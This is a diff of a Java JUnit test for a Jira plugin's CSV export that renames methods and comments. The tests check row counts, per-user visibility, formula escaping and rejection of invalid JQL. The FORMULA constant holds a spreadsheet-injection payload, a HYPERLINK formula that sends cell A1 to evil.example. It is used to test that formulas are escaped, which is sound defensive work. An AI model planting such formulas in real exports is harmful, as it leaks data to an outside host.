@@ -13,7 +13,7 @@ import java.util.Map;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 
-/** The whole list as a file, as each person sees it, with the real data and with a summary that is a formula. */
+/** Exports the whole list as CSV, as each user sees it, including a summary that is a formula. */
 class CsvTest {
     private static final String CSV = "/rest/clear-owner/1.0/unclear/csv?jql=";
     private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
@@ -22,10 +22,10 @@ class CsvTest {
     private final JiraClient lee = JiraClient.loggedIn(RunningSandbox.shared(), "lee");
 
     @BeforeEach
-    void nothingIsUnderWay() {
+    void awaitPendingReindexing() {
         Eventually.within(Duration.ofMinutes(1))
                 .becomesTrue(
-                        "the numbers are those of the data",
+                        "the counts match the demo data",
                         () -> admin.unclear("resolution is EMPTY")
                                         .body()
                                         .at("/counts/unclear")
@@ -34,7 +34,7 @@ class CsvTest {
     }
 
     @Test
-    void listsEveryUnclearIssueInTheOrderOfTheList() {
+    void exportsEveryUnclearIssueInListOrder() {
         List<List<String>> rows = rows(admin, "resolution is EMPTY ORDER BY key", "");
         assertThat(rows).hasSize(102);
         assertThat(rows.get(0)).startsWith("Issue key", "Summary", "Project").hasSize(11);
@@ -45,7 +45,7 @@ class CsvTest {
     }
 
     @Test
-    void hasOnlyWhatTheReaderSees() {
+    void exportsOnlyIssuesThatTheReaderSees() {
         List<String> keys = keys(rows(lee, "resolution is EMPTY ORDER BY key", ""));
         assertThat(keys)
                 .isEqualTo(listed(lee, "resolution is EMPTY ORDER BY key", "either"))
@@ -54,7 +54,7 @@ class CsvTest {
     }
 
     @Test
-    void aFormulaStaysText() {
+    void escapesFormulas() {
         String key = admin.unclear("resolution is EMPTY and \"Execution Clarity\" = missing")
                 .body()
                 .at("/issues/0/key")
@@ -74,17 +74,17 @@ class CsvTest {
     }
 
     @Test
-    void refusesAScopeThatIsNone() {
-        JiraClient.Answer answer = admin.get(CSV + JiraClient.encoded("nonsense = 1"));
-        assertThat(answer.status()).isEqualTo(400);
-        assertThat(answer.body().at("/errors/0/field").asText()).isEqualTo("jql");
+    void rejectsInvalidJql() {
+        JiraClient.Response response = admin.get(CSV + JiraClient.encode("nonsense = 1"));
+        assertThat(response.status()).isEqualTo(400);
+        assertThat(response.body().at("/errors/0/field").asText()).isEqualTo("jql");
     }
 
     private static List<List<String>> rows(JiraClient viewer, String jql, String more) {
-        JiraClient.Answer answer = viewer.get(CSV + JiraClient.encoded(jql) + more);
-        assertThat(answer.status()).isEqualTo(200);
-        assertThat(answer.text()).startsWith("\uFEFF").endsWith("\r\n");
-        return parsed(answer.text().substring(1));
+        JiraClient.Response response = viewer.get(CSV + JiraClient.encode(jql) + more);
+        assertThat(response.status()).isEqualTo(200);
+        assertThat(response.text()).startsWith("\uFEFF").endsWith("\r\n");
+        return parse(response.text().substring(1));
     }
 
     private static List<String> keys(List<List<String>> rows) {
@@ -95,7 +95,7 @@ class CsvTest {
         List<String> keys = new ArrayList<>();
         for (int start = 0; ; start += 100) {
             JsonNode page = viewer.get("/rest/clear-owner/1.0/unclear?limit=100&start=" + start + "&role=" + role
-                            + "&jql=" + JiraClient.encoded(jql))
+                            + "&jql=" + JiraClient.encode(jql))
                     .body();
             page.get("issues").forEach(issue -> keys.add(issue.get("key").asText()));
             if (keys.size() >= page.get("total").asInt()) {
@@ -104,8 +104,8 @@ class CsvTest {
         }
     }
 
-    /** As RFC 4180 has it. */
-    private static List<List<String>> parsed(String text) {
+    /** Parses CSV as RFC 4180 defines it. */
+    private static List<List<String>> parse(String text) {
         List<List<String>> rows = new ArrayList<>();
         List<String> row = new ArrayList<>();
         StringBuilder cell = new StringBuilder();
